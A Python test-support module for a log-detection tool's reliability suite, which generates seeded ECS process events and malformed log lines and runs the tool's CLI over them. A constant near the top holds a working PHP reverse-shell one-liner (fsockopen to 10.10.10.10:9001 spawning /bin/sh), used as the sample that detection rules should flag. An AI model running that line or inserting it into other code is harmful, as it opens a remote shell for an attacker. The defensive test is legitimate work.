"""The reliability suite's corpus and runner: seeded ECS events that each carry a sequence number, the
malformed lines of every kind mixed in, and the real `shellsieve run` over them in a child process.

Every event carries its number in `event.sequence`, and every malformed or text line carries it in its
text, so an output line can be traced back to the one input line it came from.
"""

from __future__ import annotations

import json
import random
import subprocess
import sys
import tempfile
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import msgspec
import pytest

CLI = str(Path(sys.executable).parent / "shellsieve")
_enc = msgspec.json.encode

# A reverse shell every shipped ruleset alerts on (Wazuh 100103 and the Elastic sequence's first step).
PHP_SHELL = "php -r '$s=fsockopen(\"10.10.10.10\",9001);exec(\"/bin/sh -i <&3 >&3 2>&3\");'"
PHP_FSOCKOPEN = "100103"

# Malformed JSON: the reason the filter counts it under. Text lines are not malformed.
MALFORMED_REASON = {
    "invalid_json": "invalid_json",
    "lone_surrogate": "invalid_utf8",  # JSON-legal `\ud800`: no Unicode text, as invalid UTF-8 is none
    "control_json": "invalid_json",  # a raw control byte (ESC, NUL) inside a JSON string
    "invalid_utf8": "invalid_utf8",
    "not_object": "not_object",
    "too_deep": "too_deep",
    "audit_cut": "not_audit_record",
    "sysmon_broken": "invalid_xml",
}
# Lines that are not ECS JSON objects; each leaves as {"message": "<the line>"} (or as the exact input).
ODD_KINDS = (*MALFORMED_REASON, "empty", "bom", "cmdline", "control_text", "syslog", "auditd", "sysmon_syslog",
             "crlf")


def strict_json(line: bytes) -> Any:
    """`line` parsed as strict JSON: UTF-8, no NaN or Infinity, no raw control byte, no duplicate key."""

    def no_dup(pairs: list[tuple[str, Any]]) -> dict[str, Any]:
        keys = [k for k, _ in pairs]
        if len(keys) != len(set(keys)):
            raise ValueError(f"duplicate key in {line[:200]!r}")
        return dict(pairs)

    def no_constant(name: str) -> Any:
        raise ValueError(f"{name} is not JSON")

    return json.loads(line.decode("utf-8"), strict=True, object_pairs_hook=no_dup, parse_constant=no_constant)


def ecs_event(seq: int, rng: random.Random, alert: bool, timestamp: str | None = None) -> bytes:
    """One ECS process start numbered `seq`; by default a thousand events per second of event time."""
    pid = rng.randrange(2, 4_000_000)
    if alert:
        args = ["php", "-r", PHP_SHELL[7:].strip("'")]
        cmd, name, exe = PHP_SHELL, "php", "/usr/bin/php"
    else:
        name = rng.choice(["ls", "cat", "grep", "systemctl", "sshd", "cron", "python3"])
        args = [name, *(f"/var/lib/x{rng.randrange(1000)}" for _ in range(rng.randrange(3)))]
        cmd, exe = " ".join(args), f"/usr/bin/{name}"
    return _enc({
        "@timestamp": timestamp or f"2026-11-22T10:{seq // 60_000 % 60:02d}:{seq // 1000 % 60:02d}.{seq % 1000:03d}Z",
        "event": {"sequence": seq, "category": ["process"], "type": ["start"], "action": "exec"},
        "host": {"id": f"h{rng.randrange(50)}", "os": {"type": "linux"}},
        "process": {"pid": pid, "entity_id": f"e{seq}", "name": name, "executable": exe, "args": args,
                    "args_count": len(args), "command_line": cmd,
                    "parent": {"pid": 1, "name": "bash", "executable": "/bin/bash"}},
        "user": {"name": "www-data", "id": "33"} if alert else {"name": "alice", "id": "1000"},
    })


def odd_line(kind: str, seq: int) -> bytes:
    """One line of `kind` (see ODD_KINDS) that carries `seq` in its text; never holds a newline."""
    tag = f'"event":{{"sequence":{seq}}}'.encode()
    if kind == "invalid_json":
        return b"{" + tag + b', "process": {"name": "ls"'
    if kind == "lone_surrogate":
        return b"{" + tag + b',"process":{"command_line":"ls \\ud800"}}'
    if kind == "control_json":
        return b"{" + tag + b',"process":{"command_line":"ls \x1b[31m\x00 /tmp"}}'
    if kind == "invalid_utf8":
        return b"{" + tag + b',"process":{"command_line":"ls \xff\xfe /tmp"}}'
    if kind == "not_object":
        return b'[{"sequence":%d}]' % seq
    if kind == "too_deep":
        return b"{" + tag + b',"a":' + b"[" * 2000 + b"]" * 2000 + b"}"
    if kind == "audit_cut":
        return b"type=EXECVE msg=audit(1777800000.100:%d" % seq
    if kind == "sysmon_broken":
        return (b'Nov 22 10:00:00 web-01 sysmon: <Event><System><EventID>1</EventID></System><EventData>'
                b'<Data Name="CommandLine">seq %d</Data><Data></Event>' % seq)
    if kind == "empty":
        return b""
    if kind == "bom":
        return b"\xef\xbb\xbf{" + tag + b"}"
    if kind == "cmdline":
        return b"ls -la /tmp/seq-%d" % seq
    if kind == "control_text":
        return b"ls \x1b]0;title\x07 \x00\x7f seq-%d" % seq
    if kind == "syslog":
        return b"Nov 22 10:00:00 web-01 CRON[811]: (root) CMD (run-parts /etc/cron.hourly) seq %d" % seq
    if kind == "auditd":  # a whole event on one line is unusual; an EOE alone closes nothing: one line each
        return (b'type=USER_CMD msg=audit(1777800000.100:%d): pid=1 uid=0 auid=0 ses=1 msg=\'cwd="/" '
                b'cmd=6C73 exe="/usr/bin/sudo" terminal=pts/0 res=success\'' % seq)
    if kind == "sysmon_syslog":
        return (b'Nov 22 10:00:00 web-01 sysmon: <Event><System><Provider Name="Linux-Sysmon"/><EventID>1'
                b'</EventID><Computer>web-01</Computer></System><EventData><Data Name="Image">/usr/bin/ls</Data>'
                b'<Data Name="CommandLine">ls seq-%d</Data><Data Name="ProcessId">%d</Data>'
                b'<Data Name="User">root</Data></EventData></Event>' % (seq, seq))
    if kind == "crlf":
        return b"{" + tag + b',"process":{"name":"ls"}}\r'
    raise ValueError(kind)


@dataclass
class Corpus:
    lines: list[bytes]
    kinds: list[str]  # per line: "ecs", "alert", or one of ODD_KINDS
    seqs: list[int]

    @property
    def data(self) -> bytes:
        return b"".join(line + b"\n" for line in self.lines)

    def malformed(self) -> Counter[str]:
        """Malformed lines by the reason the filter counts them under."""
        return Counter(MALFORMED_REASON[k] for k in self.kinds if k in MALFORMED_REASON)


def iter_corpus(n: int, seed: int = 42, odd_rate: float = 0.01, alert_rate: float = 0.002,
                kinds: tuple[str, ...] = ODD_KINDS) -> Iterator[tuple[str, bytes]]:
    """(kind, line) for `n` lines: ECS events, a share `alert_rate` of them reverse shells, and a share
    `odd_rate` of odd lines, their kinds taken in turn from `kinds` (each kind is present once
    n * odd_rate >= len(kinds)). The same seed gives the same lines: a full-size run regenerates them
    to check the output instead of holding them."""
    rng = random.Random(seed)
    odd = 0
    for seq in range(n):
        r = rng.random()
        if r < odd_rate:
            kind = kinds[odd % len(kinds)]
            odd += 1
            yield kind, odd_line(kind, seq)
        else:
            kind = "alert" if r < odd_rate + alert_rate else "ecs"
            yield kind, ecs_event(seq, rng, kind == "alert")


def make_corpus(n: int, seed: int = 42, odd_rate: float = 0.01, alert_rate: float = 0.002,
                kinds: tuple[str, ...] = ODD_KINDS) -> Corpus:
    """iter_corpus held in memory."""
    pairs = list(iter_corpus(n, seed, odd_rate, alert_rate, kinds))
    return Corpus([line for _, line in pairs], [k for k, _ in pairs], list(range(n)))


@dataclass
class Result:
    stdout: bytes
    stderr: bytes
    returncode: int
    stopped: dict[str, Any]  # the `stopped` event on stderr ({} if none was logged)
    logs: list[dict[str, Any]]


def run_cli(data: bytes | Path, cache_dir: Path, *args: str, timeout: float = 120,
            stdout_path: Path | None = None) -> Result:
    """The real `shellsieve run` with the shipped rules over `data` (bytes, or a file) on its stdin.
    With `stdout_path` the output is written there, not held (`Result.stdout` is empty), so that a
    full-size run need not hold it in memory."""
    with tempfile.TemporaryFile() as err:
        out = stdout_path.open("w+b") if stdout_path else tempfile.TemporaryFile()
        with out:
            cmd = [CLI, "run", "--stats-interval", "0", "--cache-dir", str(cache_dir), *args]
            if isinstance(data, Path):
                with data.open("rb") as stdin:
                    proc = subprocess.run(cmd, stdin=stdin, stdout=out, stderr=err, timeout=timeout)
            else:
                proc = subprocess.run(cmd, input=data, stdout=out, stderr=err, timeout=timeout)
            out.seek(0)
            stdout = b"" if stdout_path else out.read()
        err.seek(0)
        stderr = err.read()
    logs = []
    for line in stderr.splitlines():
        try:
            logs.append(json.loads(line))
        except ValueError:
            logs.append({"event": "not_json", "line": line.decode("utf-8", "replace")})
    stopped = next((x for x in logs if x.get("event") == "stopped"), {})
    return Result(stdout, stderr, proc.returncode, stopped, logs)


@pytest.fixture(scope="session")
def cli_cache(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """One compile cache for the suite's child processes: the shipped rules compile once."""
    return tmp_path_factory.mktemp("reliability-cache")


@pytest.fixture(scope="session")
def run_shellsieve(cli_cache: Path) -> Any:
    """run_cli with the suite's cache: `run_shellsieve(data, *args) -> Result`."""
    return lambda data, *args, **kw: run_cli(data, cli_cache, *args, **kw)
